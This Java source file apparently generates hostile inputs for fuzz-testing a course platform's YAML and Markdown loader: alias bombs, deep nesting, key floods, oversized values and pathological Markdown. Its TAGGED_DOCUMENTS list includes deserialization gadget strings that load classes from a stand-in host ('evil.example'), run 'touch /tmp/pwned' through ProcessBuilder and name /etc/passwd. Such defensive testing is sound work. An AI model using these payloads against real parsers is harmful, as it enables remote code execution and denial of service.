package org.oncolearn.contentimport;

import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;

/**
 * Files written to hurt the loader rather than by mistake: alias bombs, deep nesting, huge values, floods of keys,
 * binary noise, tags that name Java classes, merge keys, and Markdown built to nest without end.
 */
final class HostileYaml {

    /** A little over the loader's 1 MB limit, so sizes on both sides of it are tried. */
    private static final int BEYOND_LIMIT = 1_100_000;

    private static final List<String> TAGGED_DOCUMENTS = List.of(
            "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example/\"]]]]",
            "id: !!java.lang.ProcessBuilder [[\"touch\", \"/tmp/pwned\"]]",
            "!!java.util.HashMap {id: immunotherapy}",
            "!!org.oncolearn.course.Course {id: x}",
            "%TAG ! tag:evil.example,2000:\n--- !thing\nid: x",
            "%YAML 1.1\n%YAML 1.1\n--- x",
            "%YAML 9.9\n--- x",
            "id: !<tag:yaml.org,2002:str> immunotherapy",
            "id: !!binary aW1tdW5vdGhlcmFweQ==",
            "id: !!timestamp 2026-01-01",
            "id: !!float .nan",
            "id: !!set {a, b}",
            "id: !!omap [a: 1, b: 2]",
            "id: !!pairs [a: 1, a: 2]",
            "id: !!merge x",
            "!custom {id: x}",
            "!!str {id: x}",
            "!!map [a, b]",
            "!!seq {a: b}",
            "? !!java.io.File /etc/passwd\n: x");

    private static final List<String> ANCHOR_DOCUMENTS = List.of(
            "a: &a [*a]",
            "&a {id: *a}",
            "id: *nowhere",
            "id: &a immunotherapy\ntitle: *a\nsummary: *a",
            "base: &b {title: T, url: 'https://x.example'}\n<<: *b",
            "<<: [*a, *b]",
            "<<: 5",
            "<<: {<<: {<<: {id: x}}}",
            "a: &a {x: 1}\n<<: *a\n<<: *a",
            "&anchor\n&other id: x",
            "*a: x",
            "sources:\n  x: &s\n    title: T\n    url: https://x.example/\n  y: *s\n  z:\n    <<: *s\n    title: U");

    private HostileYaml() {}

    /** A course with one of its files, or one value in it, replaced by something hostile. */
    static Arbitrary<FuzzedCourse> courses(Arbitrary<FuzzedCourse> bases) {
        Arbitrary<Integer> pick = Arbitraries.integers().greaterOrEqual(0);
        return Arbitraries.oneOf(
                Combinators.combine(bases, pick, documents()).as(HostileYaml::replaceFile),
                Combinators.combine(
                                bases, pick, Arbitraries.of("title", "id", "stem", "summary", "url", "text"), values())
                        .as(HostileYaml::replaceValue),
                Combinators.combine(bases, pick, markdown())
                        .as((course, at, body) -> replaceValue(course, at, "body", body)));
    }

    private static FuzzedCourse replaceFile(FuzzedCourse course, int pick, Hostile hostile) {
        String name = new ArrayList<>(course.files().keySet())
                .get(pick % course.files().size());
        return course.with(name + ": " + hostile.how(), files -> files.put(name, hostile.text()));
    }

    private static FuzzedCourse replaceValue(FuzzedCourse course, int pick, String field, Hostile value) {
        String name = new ArrayList<>(course.files().keySet())
                .get(pick % course.files().size());
        return course.with(
                name + ": " + field + " = " + value.how(),
                files -> files.computeIfPresent(name, (n, text) -> withField(text, field, quoted(value.text()))));
    }

    static Arbitrary<Hostile> documents() {
        return Arbitraries.oneOf(
                Combinators.combine(
                                Arbitraries.integers().between(1, 40),
                                Arbitraries.integers().between(1, 12))
                        .as(HostileYaml::billionLaughs),
                Arbitraries.integers().between(1, 400_000).map(HostileYaml::deepFlowLists),
                Arbitraries.integers().between(1, 200_000).map(HostileYaml::deepFlowMaps),
                Arbitraries.integers().between(1, 1_400).map(HostileYaml::deepBlockMaps),
                Arbitraries.integers().between(1, 300_000).map(HostileYaml::deepCompactLists),
                Arbitraries.integers().between(1, 80_000).map(HostileYaml::manyKeys),
                Arbitraries.integers().between(1, 80_000).map(HostileYaml::manyDuplicateKeys),
                Arbitraries.integers().between(1, 100_000).map(HostileYaml::manyAliasesOfOneScalar),
                Arbitraries.integers().between(1, 100_000).map(HostileYaml::manyDocuments),
                Arbitraries.integers().between(1, 50_000).map(HostileYaml::manyLessonEntries),
                Arbitraries.integers().between(1, 2_000).map(HostileYaml::manyChecks),
                Arbitraries.strings().all().ofMaxLength(4_000).map(t -> new Hostile("binary noise", t)),
                Arbitraries.integers()
                        .between(1, BEYOND_LIMIT)
                        .map(n -> new Hostile(n + " chars of title", "title: " + "x".repeat(n))),
                Arbitraries.of(TAGGED_DOCUMENTS).map(t -> new Hostile("tags " + CourseEdits.escaped(t), t)),
                Arbitraries.of(ANCHOR_DOCUMENTS).map(t -> new Hostile("anchors " + CourseEdits.escaped(t), t)));
    }

    /** Each level lists the level below {@code width} times, so expanding it would take width^levels nodes. */
    static Hostile billionLaughs(int levels, int width) {
        StringBuilder yaml =
                new StringBuilder("l0: &l0 [" + String.join(", ", Collections.nCopies(width, "lol")) + "]\n");
        for (int level = 1; level < levels; level++) {
            String below = String.join(", ", Collections.nCopies(width, "*l" + (level - 1)));
            yaml.append("l%d: &l%d [%s]\n".formatted(level, level, below));
        }
        return new Hostile("billion laughs " + levels + "x" + width, yaml.toString());
    }

    static Hostile deepFlowLists(int depth) {
        return new Hostile(depth + " nested flow lists", "[".repeat(depth) + "]".repeat(depth));
    }

    static Hostile deepFlowMaps(int depth) {
        return new Hostile(depth + " nested flow maps", "{a: ".repeat(depth) + "b" + "}".repeat(depth));
    }

    static Hostile deepBlockMaps(int depth) {
        String yaml =
                IntStream.range(0, depth).mapToObj(i -> " ".repeat(i) + "a:").collect(Collectors.joining("\n"));
        return new Hostile(depth + " nested block maps", yaml + " end\n");
    }

    static Hostile deepCompactLists(int depth) {
        return new Hostile(depth + " nested compact lists", "- ".repeat(depth) + "x\n");
    }

    static Hostile manyKeys(int count) {
        String yaml = IntStream.range(0, count).mapToObj(i -> "k" + i + ": v").collect(Collectors.joining("\n"));
        return new Hostile(count + " keys", yaml);
    }

    static Hostile manyDuplicateKeys(int count) {
        return new Hostile(count + " duplicate keys", "id: x\n".repeat(count));
    }

    static Hostile manyAliasesOfOneScalar(int count) {
        return new Hostile(
                count + " aliases of one scalar",
                "id: &a " + "x".repeat(500) + "\ntitle: [" + "*a, ".repeat(count) + "*a]\n");
    }

    static Hostile manyDocuments(int count) {
        return new Hostile(count + " documents", "---\nid: x\n".repeat(count));
    }

    static Hostile manyLessonEntries(int count) {
        String entries = IntStream.range(0, count)
                .mapToObj(i -> "  - lesson-" + (i % 7) + ".yaml")
                .collect(Collectors.joining("\n"));
        return new Hostile(count + " lesson entries", "id: demo\nlessons:\n" + entries + "\n");
    }

    static Hostile manyChecks(int count) {
        String check = """
                  - id: c%d
                    level: nursing
                    objective: A1
                    stem: Which?
                    options:
                      - {text: A, key: true, rationale: R}
                      - {text: B, rationale: R}
                    sources: [nci]
                """;
        String checks =
                IntStream.range(0, count).mapToObj(i -> check.formatted(i % 50)).collect(Collectors.joining());
        return new Hostile(
                count + " checks",
                "id: first\ntitle: T\nsummary: S\nbody: B\nobjectives: {A1: x}\nsources: [nci]\nchecks:\n" + checks);
    }

    static Arbitrary<Hostile> values() {
        return Arbitraries.oneOf(
                Arbitraries.integers().between(0, BEYOND_LIMIT).map(n -> new Hostile(n + " chars", "x".repeat(n))),
                Arbitraries.integers().between(0, 200_000).map(n -> new Hostile(n + " line breaks", "\n".repeat(n))),
                Arbitraries.strings().all().ofMaxLength(2_000).map(t -> new Hostile("noise", t)),
                Arbitraries.strings()
                        .withCharRange('\u0000', '\u001F')
                        .ofMaxLength(50)
                        .map(t -> new Hostile("control characters", t)));
    }

    /** Markdown that nests blocks or inlines very deeply, or sets the inline parser many open delimiters. */
    static Arbitrary<Hostile> markdown() {
        Arbitrary<Integer> size = Arbitraries.integers().between(1, 200_000);
        Arbitrary<String> unit = Arbitraries.of(
                ">",
                "> ",
                "- ",
                "* ",
                "1. ",
                "  - ",
                "[",
                "![",
                "*",
                "_",
                "**",
                "`",
                "<",
                "&",
                "\\",
                "#",
                "|",
                "~~",
                "[a](",
                "<a href=",
                "*a **b ",
                "[x]: ",
                "\n\n",
                "    ",
                "\t");
        return Combinators.combine(unit, size)
                .as((piece, n) -> new Hostile(
                        n + " x " + CourseEdits.escaped(piece),
                        piece.repeat(Math.min(n, BEYOND_LIMIT / piece.length())) + "x"));
    }

    /** The text with the first line that holds {@code field} set to {@code value}, continuation lines removed. */
    static String withField(String text, String field, String value) {
        List<String> lines = new ArrayList<>(List.of(text.split("\n", -1)));
        Pattern key = Pattern.compile("^(\\s*(?:- )?)" + Pattern.quote(field) + ":.*$");
        for (int i = 0; i < lines.size(); i++) {
            Matcher found = key.matcher(lines.get(i));
            if (found.matches()) {
                int indent = found.group(1).length();
                lines.set(i, found.group(1) + field + ": " + value);
                while (i + 1 < lines.size() && isContinuation(lines.get(i + 1), indent)) {
                    lines.remove(i + 1);
                }
                return String.join("\n", lines);
            }
        }
        return text + "\n" + field + ": " + value + "\n";
    }

    private static boolean isContinuation(String line, int keyIndent) {
        String content = line.stripLeading();
        return content.isEmpty() || line.length() - content.length() > keyIndent;
    }

    /** Any text as one double-quoted YAML scalar, escaped so that every character arrives unchanged. */
    static String quoted(String text) {
        StringBuilder yaml = new StringBuilder("\"");
        text.chars()
                .forEach(c -> yaml.append(
                        switch (c) {
                            case '"' -> "\\\"";
                            case '\\' -> "\\\\";
                            case '\n' -> "\\n";
                            default ->
                                c < 0x20
                                                || c == 0x7F
                                                || Character.isSurrogate((char) c)
                                                || c >= 0xFFFE
                                                || c == 0x85
                                                || c == 0x2028
                                                || c == 0x2029
                                                || c == 0xFEFF
                                        ? "\\u%04X".formatted(c)
                                        : Character.toString(c);
                        }));
        return yaml.append('"').toString();
    }

    /** A hostile text and a short name for it, since the text itself can be a megabyte. */
    record Hostile(String how, String text) {
        @Override
        public String toString() {
            return how;
        }
    }
}
